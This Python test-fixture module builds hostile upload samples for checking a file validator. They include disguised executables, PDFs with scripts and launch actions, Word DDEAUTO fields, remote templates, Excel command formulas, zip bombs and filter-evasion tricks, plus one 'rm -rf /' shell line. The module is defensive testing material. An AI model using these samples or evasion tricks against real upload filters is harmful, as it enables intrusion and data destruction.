"""Files nobody should be handed: each with the name it is sent under, and what is wrong with it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.factories.documents import TYPES, WORD_BODY, excel, jpeg_with_a_place, pdf, picture, word

MZ = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 400
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
HTML = b"<!doctype html><script>fetch('https://example.org')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = '<Relationships xmlns="x"><Relationship Id="r" Type="{0}" Target="{1}" TargetMode="External"/></Relationships>'
RELATION = '<Relationships xmlns="x"><Relationship Id="r" {0}/></Relationships>'
FIELD = f'<w:p xmlns:w="{WORDS}">{{0}}</w:p>'
SHEET = '<c xmlns="x">{0}</c>'
KINDS = "application/vnd.openxmlformats-officedocument."
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OPENS = b"<< /OpenAction 98 0 R >>\nendobj\n98 0 obj\n"

Hostile = tuple[str, bytes]


def all_of_them() -> dict[str, Hostile]:
    """By what each is."""
    found: dict[str, Hostile] = {}
    for group in (renamed, pdfs, words, misnamed, excels, archives, pictures, notes):
        for label, hostile in group():
            assert label not in found
            found[label] = hostile
    return found


def renamed() -> Iterator[tuple[str, Hostile]]:
    """Something else under a harmless name."""
    bodies = {
        "a program": MZ,
        "a Linux program": ELF,
        "an old office file": OLE,
        "a page": HTML,
        "a drawing": SVG,
    }
    for what, body in bodies.items():
        for extension in ("pdf", "docx", "xlsx", "jpg", "png", "txt"):
            yield f"{what} as {extension}", (f"letter.{extension}", body)
    good = {"pdf": pdf(), "docx": word(), "jpg": picture("JPEG"), "png": picture("PNG")}
    for what, body in good.items():
        for extension in sorted({"pdf", "docx", "xlsx", "jpg", "png", "txt"} - {what}):
            yield f"{what} as {extension}", (f"letter.{extension}", body)
    for name in (
        "run.exe",
        "page.html",
        "drawing.svg",
        "letter.docm",
        "letter.doc",
        "letter.pdf.exe",
        "letter",
        ".pdf .",
    ):
        yield f"the name {name}", (name, pdf())
    yield "an empty file", ("letter.pdf", b"")
    yield "more than 20 MB", ("note.txt", b"a" * (20 * 1024 * 1024 + 1))


def pdfs() -> Iterator[tuple[str, Hostile]]:
    """PDFs that act, hide or are not whole."""
    good = pdf()
    acts = {
        "a script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
        "a disguised script": b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>",
        "a program to launch": b"<< /S /Launch /F (cmd.exe) >>",
        "an embedded file": b"<< /Type /EmbeddedFile /Length 0 >>",
        "a list of embedded files": b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
        "a file pinned to a page": b"<< /Subtype /FileAttachment >>",
        "a form that sends itself": b"<< /S /SubmitForm /F (https://example.org) >>",
        "a form of XML": b"<< /AcroForm << /XFA 9 0 R >> >>",
        "a film": b"<< /Type /RichMedia >>",
        "another document": b"<< /S /GoToR /F (//example.org/share/x.pdf) >>",
        "a thread of another document": b"<< /S /Thread /F (//example.org/share/x.pdf) /D 0 >>",
        "a document within": b"<< /S /GoToE >>",
        "data to import": b"<< /S /ImportData >>",
        "an address it opens": b"<< /OpenAction << /S /URI /URI (https://example.org/?opened) >> >>",
        "an address it opens after its first page": b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] "
        b"/Next << /S /URI /URI (https://example.org) >> >> >>",
        "an address it opens when closed": b"<< /AA << /WC << /S /URI /URI (https://example.org) >> >> >>",
        "an address it opens from elsewhere": OPENS + b"<< /S /URI /URI (https://example.org) >>",
        "an address it opens behind a note": OPENS + b"%/A\n<< /S /URI /URI (https://example.org) >>",
        "an address it opens, disguised": b"<< /Open#41ction << /S /URI /#55RI (https://example.org) >> >>",
    }
    for what, act in acts.items():
        yield f"a PDF with {what}", ("letter.pdf", with_object(good, act))
    script = acts["a script"]
    yield (
        "a PDF with a packed script",
        ("letter.pdf", with_stream(good, script, b"/Type /ObjStm /N 1 /First 0")),
    )
    yield (
        "a PDF with a packed address it opens",
        ("letter.pdf", with_stream(good, acts["an address it opens"], b"/Type /ObjStm /N 1 /First 0")),
    )
    yield "a PDF with a script packed twice", (
        "letter.pdf", with_stream(good, zlib.compress(script), b"/Type /ObjStm /N 1 /First 0"),
    )  # fmt: skip
    yield "a PDF with objects packed unusually", (
        "letter.pdf",
        with_object(
            good, b"<< /Type /ObjStm /N 1 /First 0 /Filter [/ASCIIHexDecode] /Length 4 >> stream\n3c3c\nendstream"
        ),
    )  # fmt: skip
    yield "a PDF with a file in objects that are not packed", (
        "letter.pdf",
        with_object(
            good,
            b"<< /Type /ObjStm /N 1 /First 5 /Length 60 >> stream\n12 0 << /Type /Filespec /F (x.exe) "
            b"/EF << /F 12 0 R >> >>\nendstream",
        ),
    )  # fmt: skip
    yield "a PDF with objects inside a picture", (
        "letter.pdf",
        with_object(
            good, b"<< /Filter /DCTDecode >> stream\nxx 5 0 obj << /Type /ObjStm /N 1 /First 0 >> \nendstream"
        ),
    )  # fmt: skip
    for what, blank in {
        "a blank": b" \n",
        "another end of line": b"\r",
        "a note": b"%x\n",
        "two blanks": b"\t \n",
    }.items():
        yield f"a PDF with a script behind {what}", (
            "letter.pdf", with_stream(good, script, b"/Type /ObjStm /N 1 /First 0", begins=b"stream" + blank),
        )  # fmt: skip
    yield "a PDF with a script behind a note and a blank", (
        "letter.pdf", with_stream(good, script, b"/Type /ObjStm /N 1 /First 0", begins=b"% note\rstream \n"),
    )  # fmt: skip
    yield "a PDF with a script behind a false end", ("letter.pdf", ended_twice(good, script))
    yield "a PDF that is locked", ("letter.pdf", good.replace(b"/Root", b"/Encrypt 9 0 R /Root", 1))
    yield "a PDF cut short", ("letter.pdf", good[: len(good) // 2])
    yield "a PDF with a program after it", ("letter.pdf", good + MZ)
    yield "a PDF after a page", ("letter.pdf", HTML + good)
    yield "a PDF that is an archive too", ("letter.pdf", good + word() + b"\n%%EOF")
    yield "a PDF that never ends", ("letter.pdf", good.replace(b"endstream", b"endstrea"))
    yield "only the first words of a PDF", ("letter.pdf", b"%PDF-1.7\n%%EOF")
    bomb = with_stream(good, b"\x00" * (201 * 1024 * 1024), b"")
    yield "a PDF that unpacks to 201 MB", ("letter.pdf", bomb)


def words() -> Iterator[tuple[str, Hostile]]:
    """Word documents that run, reach out or hide something."""
    parts: dict[str, dict[str, str | bytes]] = {
        "macros": {"word/vbaProject.bin": OLE},
        "macros by another name": {"word/Vba/macros.xml": "<x/>"},
        "a control": {"word/activeX/activeX1.xml": "<x/>"},
        "an embedded object": {"word/embeddings/oleObject1.bin": OLE},
        "an embedded workbook": {"word/embeddings/Workbook1.xlsx": excel()},
        "a program inside": {"word/media/run.exe": MZ},
        "a program as a picture": {"word/media/image1.png": MZ},
        "a document as a picture": {"word/media/image1.jpeg": word()},
        "a page inside": {"word/afchunk.htm": HTML},
        "a button": {"customUI/customUI.xml": "<x/>"},
        "a path that climbs": {"../../etc/cron.d/x.xml": "<x/>"},
        "a path from the root": {"/etc/x.xml": "<x/>"},
        "an entity": {"word/x.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'},
        "letters of two bytes": {"word/x.xml": "<!DOCTYPE x>".encode("utf-16")},
        "a remote template": {"word/_rels/settings.xml.rels": REL.format(OFFICE + "attachedTemplate", "https://example.org/t.dotm")},
        "a remote picture": {"word/_rels/document.xml.rels": REL.format(OFFICE + "image", "https://example.org/x.png")},
        "a linked object": {"word/_rels/document.xml.rels": REL.format(OFFICE + "oleObject", "file:///c:/x.doc")},
        "a share it opens": {"word/_rels/document.xml.rels": REL.format(OFFICE + "hyperlink", "file://example.org/share")},
        "a script it opens": {"word/_rels/document.xml.rels": REL.format(OFFICE + "hyperlink", "javascript:alert(1)")},
        "a field that runs": field('<w:instrText xml:space="preserve">DDEAUTO x cmd</w:instrText>'),
        "a field in pieces": field("<w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText>"),
        "a field spelt in numbers": field("<w:instrText>QUOTE 68 68 69</w:instrText>"),
        "a field that fetches": field('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://x&quot;"/>'),
        "a field with a letter in numbers": field("<w:instrText>&#68;DEAUTO x</w:instrText>"),
        "a field with a note in it": field("<w:instrText>DD<!-- x -->EAUTO x</w:instrText>"),
        "a field in raw letters": field("<w:instrText><![CDATA[DDE]]>AUTO x</w:instrText>"),
        "a field by another prefix": {
            "word/header1.xml": f'<q:p xmlns:q="{WORDS}"><q:instrText>DDEAUTO x</q:instrText></q:p>'
        },
        "a field that links": field(r'<w:instrText>LINK Excel.Sheet.12 "\\\\example.org\\a.xlsx" "S"</w:instrText>'),
        "a field that reads a document": field(r'<w:fldSimple w:instr="RD \\\\example.org\\s\\a.docx"/>'),
        "two words of one name": {"word/_rels/settings.xml.rels": RELATION.format(
            f'Type="{OFFICE}attachedTemplate" x:Type="{OFFICE}hyperlink" xmlns:x="x" Target="https://example.org"')},
        "a field in an attribute in numbers": field("<w:fldSimple w:instr='&#x44;DE x'/>"),
        "a remote template in numbers": {"word/_rels/settings.xml.rels": RELATION.format(
            f'Type="{OFFICE}attachedTemplate" Target="https://example.org/t.dotm" TargetMode="&#69;xternal"')},
        "a remote template behind a bracket": {"word/_rels/settings.xml.rels": RELATION.format(
            f'Type="{OFFICE}attachedTemplate" Target="https://example.org/>.dotm" TargetMode="External"')},
        "a remote template that says it is inside": {"word/_rels/settings.xml.rels": RELATION.format(
            f'Type="{OFFICE}attachedTemplate" Target="https://example.org/t.dotm"')},
        "a share it opens in numbers": {"word/_rels/document.xml.rels": RELATION.format(
            f'Type="{OFFICE}hyperlink" Target="&#102;ile://example.org/share" TargetMode="External"')},
        "a page inside by another name": {"word/_rels/document.xml.rels": RELATION.format(
            f'Type="{OFFICE}aF&#67;hunk" Target="media/x.xml"')},
        "relations that are no XML": {"word/_rels/document.xml.rels": "<Relationships><Relationship"},
        "letters of another alphabet": {"word/x.xml": '<?xml version="1.0" encoding="utf-7"?><x/>'},
    }  # fmt: skip
    for what, more in parts.items():
        yield f"a Word document with {what}", ("letter.docx", word(more))
    macro_types = TYPES.format(part="word/document.xml", kind="x").replace(
        "application/vnd.openxmlformats-officedocument.x.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    yield "a macro document renamed", ("letter.docx", word(types=macro_types))
    in_numbers = macro_types.replace("macroEnabled", "m&#97;croEnabled")
    yield "a macro document renamed in numbers", ("letter.docx", word(types=in_numbers))
    yield "a workbook as a Word document", ("letter.docx", excel())
    yield "a Word document without its list", ("letter.docx", archive({"word/document.xml": WORD_BODY}))
    yield "a Word document after a program", ("letter.docx", MZ + word())
    yield "a Word document with a program after it", ("letter.docx", word() + MZ)
    yield "a Word document cut short", ("letter.docx", word()[:-30])
    yield "a Word document with a part twice", ("letter.docx", twice())
    yield "a locked Word document", ("letter.docx", locked(word()))


def misnamed() -> Iterator[tuple[str, Hostile]]:
    """Parts that are called pictures and listed as pages: an office program goes by the list."""
    header: dict[str, str | bytes] = {
        "word/header1.png": FIELD.format('<w:fldSimple w:instr=" DDEAUTO x cmd "/>')
    }
    sheet: dict[str, str | bytes] = {
        "xl/worksheets/sheet1.png": SHEET.format('<f>WEBSERVICE("https://example.org")</f>')
    }
    own = "/word/header1.png"
    for what, line in {
        "a header that is called a picture": listed(own, f"{KINDS}wordprocessingml.header+xml"),
        "a header of another kind that is called a picture": listed(own, " Text/XML ; x=1"),
        "a drawing that is called a picture": listed(own, f"{KINDS}vmlDrawing"),
        "every picture listed as markup": '<Default Extension="PNG" ContentType="application/xml"/>',
    }.items():
        types = TYPES.format(part="word/document.xml", kind="wordprocessingml.document")
        types = types.replace("</Types>", f"{line}</Types>")
        yield what, ("letter.docx", word(header, types=types))
    line = listed("/xl/worksheets/sheet1.png", f"{KINDS}spreadsheetml.worksheet+xml")
    types = TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet")
    types = types.replace("</Types>", f"{line}</Types>")
    yield "a sheet that is called a picture", ("table.xlsx", excel(sheet, types=types))


def listed(part: str, kind: str) -> str:
    """A line of the list of contents, which says what a part is."""
    return f'<Override PartName="{part}" ContentType="{kind}"/>'


def excels() -> Iterator[tuple[str, Hostile]]:
    """Workbooks that run, reach out or hide something."""
    parts: dict[str, dict[str, str | bytes]] = {
        "macros": {"xl/vbaProject.bin": OLE},
        "old macros": {"xl/macrosheets/sheet1.xml": "<x/>"},
        "links to other workbooks": {"xl/externalLinks/externalLink1.xml": "<x/>"},
        "a connection": {"xl/connections.xml": "<x/>"},
        "a query": {"xl/queryTables/queryTable1.xml": "<x/>"},
        "a formula that fetches": {
            "xl/worksheets/sheet1.xml": SHEET.format('<f>WEBSERVICE("https://example.org")</f>')
        },
        "a formula that fetches in numbers": {
            "xl/worksheets/sheet1.xml": SHEET.format('<f>&#87;EBSERVICE("x")</f>')
        },
        "a name that fetches": {
            "xl/extra.xml": SHEET.format("<definedName name='a'>_xlfn.WEBSERVICE(&#34;x&#34;)</definedName>")
        },
        "a formula that draws": {
            "xl/x.xml": SHEET.format('<f>_xlfn.IMAGE("https://example.org?"&amp;A1)</f>')
        },
        "a formula of another workbook": {"xl/x.xml": SHEET.format(r"<f>'\\example.org\s\[a.xlsx]S'!A1</f>")},
        "a formula that asks a program": {"xl/x.xml": SHEET.format("<f>cmd|'/c calc'!A0</f>")},
        "a formula that calls": {"xl/worksheets/sheet1.xml": SHEET.format('<f a="1">CALL("x","y")</f>')},
        "a control": {"xl/ctrlProps/ctrlProp1.xml": "<x/>"},
    }
    for what, more in parts.items():
        yield f"a workbook with {what}", ("table.xlsx", excel(more))
    sheet = "application/vnd.ms-excel.&#109;acrosheet+xml"
    types = TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet").replace(
        "</Types>", f'<Override PartName="/xl/x.xml" ContentType="{sheet}"/></Types>'
    )
    yield "a workbook with old macros in numbers", ("table.xlsx", excel({"xl/x.xml": "<x/>"}, types=types))


def archives() -> Iterator[tuple[str, Hostile]]:
    """Archives that unpack without end."""
    yield "a document of zeros", ("letter.docx", word({"word/x.xml": b"0" * (60 * 1024 * 1024)}))
    yield "a document of 5,001 parts", ("letter.docx", word({f"word/{n}.xml": "<x/>" for n in range(5001)}))
    yield "an archive in an archive", ("letter.docx", word({"word/media/image1.zip": word()}))
    yield "a document that lies about its size", ("letter.docx", lying())


def pictures() -> Iterator[tuple[str, Hostile]]:
    """Pictures too large or broken."""
    yield "a PNG of 100 megapixels", ("screen.png", flat_png(10_000, 10_000))
    yield "a PNG that says it is endless", ("screen.png", flat_png(2_000_000_000, 2))
    yield "half a JPEG", ("photo.jpg", jpeg_with_a_place()[:300])
    yield "a JPEG of nothing", ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 400)
    yield "a PNG with a broken middle", ("screen.png", picture("PNG", (300, 300))[:60] + b"\x00" * 600)


def notes() -> Iterator[tuple[str, Hostile]]:
    """Text that is not text."""
    yield "text with a null byte", ("note.txt", b"before\x00after" * 10)
    yield "a script of the shell", ("note.txt", b"#!/bin/sh\nrm -rf /\n")
    yield "a page after blanks", ("note.txt", b"\n\n   <html><body>x</body></html>")
    yield "letters of no code", ("note.txt", b"\x81\x8d\x8f\x90\x9d" * 20)
    yield "rich text", ("note.txt", rb"{\rtf1\ansi hello}")
    yield "escape codes", ("note.txt", b"hello \x1b]8;;http://example.org\x07link\x1b]8;;\x07")


def field(markup: str) -> dict[str, str | bytes]:
    """A header with this in it."""
    return {"word/header1.xml": FIELD.format(markup)}


def with_object(good: bytes, body: bytes) -> bytes:
    """The PDF with one more object before its end."""
    at = good.rindex(b"startxref")
    return good[:at] + b"\n99 0 obj\n" + body + b"\nendobj\n" + good[at:]


def with_stream(good: bytes, content: bytes, more: bytes, *, begins: bytes = b"stream\n") -> bytes:
    """The PDF with one more packed part."""
    return with_packed(good, zlib.compress(content, 9), more, begins=begins)


def with_packed(good: bytes, packed: bytes, more: bytes, *, begins: bytes = b"stream\n") -> bytes:
    """The PDF with one more part that is packed already."""
    head = b"<< " + more + b" /Filter /FlateDecode /Length " + str(len(packed)).encode() + b" >> " + begins
    return with_object(good, head + packed + b"\nendstream")


def ended_twice(good: bytes, content: bytes) -> bytes:
    """Packed objects whose first block, left unpacked, says `endstream`: by their length they go on."""
    first = b"% endstream " + b" " * 20
    stored = zlib.compress(first, 0)[:7] + first
    stored = stored[:2] + b"\x00" + stored[3:]  # not the last block
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = packed.compress(content) + packed.flush()
    whole = stored + rest + struct.pack(">L", zlib.adler32(first + content))
    assert zlib.decompress(whole) == first + content
    return with_packed(good, whole, b"/Type /ObjStm /N 1 /First 0")


def archive(parts: dict[str, str]) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as opened:
        for name, content in parts.items():
            opened.writestr(name, content)
    return into.getvalue()


def twice() -> bytes:
    """Two parts of one name: some programs read the first, some the last."""
    into = io.BytesIO(word())
    with zipfile.ZipFile(into, "a") as opened:
        opened.writestr("word/Document.xml", "<x/>")
    return into.getvalue()


def locked(good: bytes) -> bytes:
    """The mark of a password on every part."""
    data = bytearray(good)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def lying() -> bytes:
    """A part of a megabyte that its list of contents calls three bytes long."""
    data = bytearray(word({"word/x.xml": b"<x>" + b"0" * 1_000_000}))
    for mark, place, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = data.find(mark)
        while at >= 0:
            if data[at + name_at : at + name_at + 10] == b"word/x.xml":
                struct.pack_into("<L", data, at + place, 3)
            at = data.find(mark, at + 4)
    return bytes(data)


def flat_png(width: int, height: int) -> bytes:
    """A PNG whose head promises this many pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
